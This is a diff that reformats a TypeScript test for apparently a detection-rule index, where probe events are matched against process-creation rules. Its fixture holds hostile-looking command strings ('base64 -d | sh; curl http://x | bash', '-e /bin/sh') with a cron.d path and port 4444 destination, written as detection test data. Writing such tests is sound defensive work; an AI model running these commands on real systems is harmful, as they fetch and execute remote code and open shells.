@@ -18,8 +18,18 @@ function probeEvents(category: string): EnrichedEventInput[] {
   return images.map((exe, i) => ({
     id: `probe-${i}`,
     timestamp: 0,
-    event: { kind: 'event', category: [category === 'process_creation' ? 'process' : category === 'file_event' ? 'file' : 'network'], type: ['start', 'creation'], dataset: category === 'network_connection' ? 'osprey.flow' : 'osquery.process_events' },
-    process: { pid: i, executable: exe, command_line: `${exe} -c 'base64 -d | sh; curl http://x | bash; -e /bin/sh'`, parent: { executable: '/usr/bin/bash' } },
+    event: {
+      kind: 'event',
+      category: [category === 'process_creation' ? 'process' : category === 'file_event' ? 'file' : 'network'],
+      type: ['start', 'creation'],
+      dataset: category === 'network_connection' ? 'osprey.flow' : 'osquery.process_events',
+    },
+    process: {
+      pid: i,
+      executable: exe,
+      command_line: `${exe} -c 'base64 -d | sh; curl http://x | bash; -e /bin/sh'`,
+      parent: { executable: '/usr/bin/bash' },
+    },
     file: { path: '/etc/cron.d/x' },
     destination: { ip: '203.0.113.9', port: 4444 },
   }));
@@ -47,7 +57,10 @@ test('most process_creation rules are indexed by image, and an unrelated executa
   const indexed = own.filter((r) => r.imageSuffixes !== null).length;
   assert.ok(indexed >= 90, `${indexed} of ${own.length} indexed`);
   const index = indexRules(own);
-  assert.ok(index.candidates("/usr/bin/unrelated-binary").length <= own.length - 90);
+  assert.ok(index.candidates('/usr/bin/unrelated-binary').length <= own.length - 90);
   assert.ok(index.candidates('/usr/bin/base64').some((i) => own[i]?.id === 'e2072cab-8c9a-459b-b63c-40ae79e27031'));
-  assert.ok(index.candidates('/USR/BIN/BASE64').some((i) => own[i]?.id === 'e2072cab-8c9a-459b-b63c-40ae79e27031'), 'case-insensitive');
+  assert.ok(
+    index.candidates('/USR/BIN/BASE64').some((i) => own[i]?.id === 'e2072cab-8c9a-459b-b63c-40ae79e27031'),
+    'case-insensitive',
+  );
 });
